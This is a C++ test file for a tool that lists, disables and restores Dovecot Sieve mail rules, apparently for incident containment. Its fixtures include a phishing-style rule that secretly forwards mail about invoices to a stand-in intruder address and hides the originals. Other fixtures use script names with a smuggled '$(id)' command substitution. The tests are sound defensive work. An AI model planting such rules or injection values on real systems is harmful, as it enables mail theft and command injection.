#include <doctest/doctest.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "base/messages.hpp"
#include "connect/dovecot/server_test.hpp"

using namespace digue;
using namespace digue::dovecot;
using namespace digue::containment;

namespace {

std::string script_file(const TestServer& server, const std::string& account, const std::string& name) {
  std::ifstream file(server.folder() + "/sieve/" + account + "/" + name + ".sieve");
  std::ostringstream text;
  text << file.rdbuf();
  return text.str();
}

/// Through the doveadm program.
void put(const TestServer& server, const std::string& account, const std::string& name, const std::string& text, bool activate) {
  const auto file = server.folder() + "/script";
  std::ofstream(file) << text;
  const auto said = server.doveadm("sieve put -u " + quoted(account) + (activate ? " -a " : " ") + quoted(name) + " < " + file);
  INFO(said);
  REQUIRE(script_file(server, account, name) == text);
}

std::string active(const TestServer& server, const std::string& account) {
  const auto list = server.doveadm("sieve list -u " + quoted(account));
  std::istringstream lines(list);
  for (std::string line; std::getline(lines, line);)
    if (line.ends_with(" ACTIVE")) return line.substr(0, line.size() - 7);
  return {};
}

bool noted(const Plan& plan, const std::string& text) {
  for (const auto& one : plan.notes)
    if (one.en.find(text) != std::string::npos) return true;
  return false;
}

const std::string phish =
    "require [\"fileinto\", \"copy\", \"encoded-character\"];\r\n# rule:[.]\r\nif header :contains \"subject\" \"facture\" {\r\n"
    "  redirect :copy \"intruder${hex:40}x.example\";\r\n  fileinto \"RSS\";\r\n}\r\n";

}  // namespace

TEST_CASE("dovecot: rules are listed whole, with what they do") {
  auto* server = TestServer::instance();
  if (server == nullptr) return;
  const auto account = server->account("rules");
  const std::string hostile = "x\"; keep {} 'é\u202e$(id)";
  put(*server, account, ".", phish, true);
  put(*server, account, hostile, "discard;\n", false);
  std::map<std::string, std::string> parts;
  const auto connector = server->connector();
  REQUIRE(connector->collect({"rule.list", account}, [&](Collected one) -> Result<void> {
    parts[one.name] = one.bytes;
    return {};
  }));
  CHECK(parts.size() == 3);
  const auto index = json::parse(parts["sieve/scripts.json"]).value().as_array();
  REQUIRE(index.size() == 2);
  for (const auto& one : index) {
    const bool is_phish = text_of(one, "script") == ".";
    CHECK((is_phish || text_of(one, "script") == hostile));
    CHECK(one.as_object().at("active").as_bool() == is_phish);
    CHECK(one.as_object().at("forwards").as_bool() == is_phish);
    CHECK(one.as_object().at("hides").as_bool());
    CHECK(parts.at(text_of(one, "name")) == (is_phish ? phish : "discard;\n"));
  }
  const auto stopped =
      connector->collect({"rule.list", account}, [](Collected) -> Result<void> { return fail(ErrorCode::cancelled, "enough"); });
  CHECK(stopped.error().code == ErrorCode::cancelled);
}

TEST_CASE("dovecot: the active rule is switched off and on again, byte for byte") {
  auto* server = TestServer::instance();
  if (server == nullptr) return;
  const auto account = server->account("disable");
  put(*server, account, "x\"; '$(id)", phish, true);
  put(*server, account, "mine", "keep;\n", false);
  const auto connector = server->connector();
  const auto plan = connector->plan({"rule.disable", account});
  if (!plan) FAIL(to_text(plan.error()));
  CHECK(active(*server, account) == "x\"; '$(id)");
  REQUIRE(plan->steps.size() == 1);
  CHECK(noted(*plan, "forwards to intruder@x.example"));
  CHECK(noted(*plan, "files into \"RSS\""));
  CHECK(noted(*plan, "sieve_before"));
  CHECK_FALSE(connector->verify(*plan)->front().good);
  REQUIRE(connector->apply(*plan, plan->steps[0]));
  CHECK(active(*server, account).empty());
  CHECK(connector->stand(*plan, plan->steps[0]).value() == Stand::after);
  CHECK(connector->verify(*plan)->front().good);
  CHECK(connector->apply(*plan, plan->steps[0]).error().code == ErrorCode::conflict);
  CHECK(connector->plan({"rule.disable", account})->steps.empty());
  CHECK(script_file(*server, account, "x\"; '$(id)") == phish);

  // Deleted meanwhile: it is put back from the sealed bytes.
  server->doveadm("sieve delete -u " + account + " " + quoted("x\"; '$(id)"));
  auto undo = connector->plan_undo(*plan, plan->prior);
  if (!undo) FAIL(to_text(undo.error()));
  REQUIRE(undo->steps.size() == 2);
  for (const auto& step : undo->steps) {
    CHECK(connector->stand(*undo, step).value() == Stand::before);
    const auto done = connector->apply(*undo, step);
    if (!done) FAIL(to_text(done.error()));
    CHECK(connector->stand(*undo, step).value() == Stand::after);
  }
  CHECK(connector->verify(*undo)->front().good);
  CHECK(active(*server, account) == "x\"; '$(id)");
  CHECK(script_file(*server, account, "x\"; '$(id)") == phish);
  CHECK(connector->plan_undo(*plan, plan->prior)->steps.empty());
}

TEST_CASE("dovecot: a rule that changed meanwhile is a conflict, an absent one is named") {
  auto* server = TestServer::instance();
  if (server == nullptr) return;
  const auto account = server->account("changed");
  const auto connector = server->connector();
  CHECK(connector->plan({"rule.disable", account})->steps.empty());
  CHECK(connector->plan({"rule.disable", account, {{"script", "none"}}}).error().code == ErrorCode::not_found);
  put(*server, account, "phish", phish, true);
  const auto plan = connector->plan({"rule.disable", account, {{"script", "phish"}}}).value();
  put(*server, account, "phish", "keep;\n", true);
  CHECK(connector->stand(plan, plan.steps[0]).value() == Stand::other);
  CHECK(connector->apply(plan, plan.steps[0]).error().code == ErrorCode::conflict);
  CHECK(active(*server, account) == "phish");
  CHECK(connector->plan_undo(plan, plan.prior).error().code == ErrorCode::conflict);
  put(*server, account, "other", "keep;\n", true);
  CHECK(connector->plan_undo(plan, plan.prior).error().code == ErrorCode::conflict);
  CHECK(connector->plan({"rule.disable", account, {{"script", "phish"}}})->steps.empty());
}

TEST_CASE("dovecot: bytes that doveadm cannot show are told, and stay on the server") {
  auto* server = TestServer::instance();
  if (server == nullptr) return;
  const auto account = server->account("latin");
  put(*server, account, "latin", "# caf\xe9\nkeep;\n", true);
  const auto connector = server->connector();
  const auto plan = connector->plan({"rule.disable", account}).value();
  CHECK(noted(plan, "its sealed copy is approximate"));
  REQUIRE(connector->apply(plan, plan.steps[0]));
  const auto undo = connector->plan_undo(plan, plan.prior).value();
  REQUIRE(undo.steps.size() == 1);
  REQUIRE(connector->apply(undo, undo.steps[0]));
  CHECK(active(*server, account) == "latin");
  CHECK(script_file(*server, account, "latin") == "# caf\xe9\nkeep;\n");
}
